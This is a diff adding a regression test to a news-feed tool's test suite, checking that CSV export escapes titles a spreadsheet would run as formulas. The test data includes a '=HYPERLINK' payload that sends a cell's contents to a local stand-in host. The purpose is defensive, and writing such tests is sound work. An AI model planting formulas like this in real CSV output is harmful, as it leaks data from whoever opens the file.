@@ -3,6 +3,7 @@ database that cannot be used."""
 
 from __future__ import annotations
 
+import html
 import json
 import os
 import shutil
@@ -110,6 +111,31 @@ def test_export_to_a_file_or_to_standard_output(workdir):
     assert workdir.newswatch("export", "--format", "csv", "-o", str(target)).returncode == 0
     assert target.read_text(encoding="utf-8").splitlines() == [header]
     assert not list(workdir.path.glob(".*partial"))
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(site, workdir):
+    """A feed's title "=HYPERLINK(...)" went into the CSV as a live formula, and a headline
+    starting "- " (Dagbladet: "- Angsten vil øke") showed as #NAME? in Excel."""
+    import csv
+    import io
+
+    titles = ['=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Click")', "- Angsten vil øke",
+              "@channel news", "Plain headline"]
+    items = "".join(
+        f"<item><title>{html.escape(title)}</title><link>{site.url(f'/a/{n}')}</link>"
+        f"<description>Text {n}.</description></item>" for n, title in enumerate(titles))
+    feed = site.serve("/csv.rss", f'<rss version="2.0"><channel><title>T</title>{items}'
+                      "</channel></rss>".encode())
+    for n in range(len(titles)):
+        site.serve(f"/a/{n}", b"", status=410, content_type="text/html")
+    workdir.write_config(sources=[feed])
+    assert workdir.newswatch("crawl").returncode == 0
+    rows = list(csv.DictReader(io.StringIO(workdir.newswatch("export", "--format", "csv").stdout)))
+    assert sorted(row["title"] for row in rows) == sorted(
+        ["'" + titles[0], "'" + titles[1], "'" + titles[2], titles[3]])
+    # JSON lines keep the titles as they are.
+    jsonl = [json.loads(line) for line in workdir.newswatch("export").stdout.splitlines()]
+    assert sorted(row["title"] for row in jsonl) == sorted(titles)
 
 
 def _read_only_runner(tmp_path: Path) -> list[str]:
